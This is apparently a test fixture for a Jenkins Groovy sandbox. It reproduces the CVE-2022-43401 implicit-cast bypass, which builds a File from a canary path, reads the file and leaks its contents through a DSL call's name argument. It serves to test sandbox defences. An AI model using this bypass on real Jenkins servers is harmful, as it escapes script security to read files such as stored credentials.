// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted)
// expect: read
// Declaring a File variable with a list value calls the File constructor.
File f = ['@CANARY_READ@']
def v = f.collect { it }.join('|')
vmwareSite("leak-${v}") { network 'VM Network' }
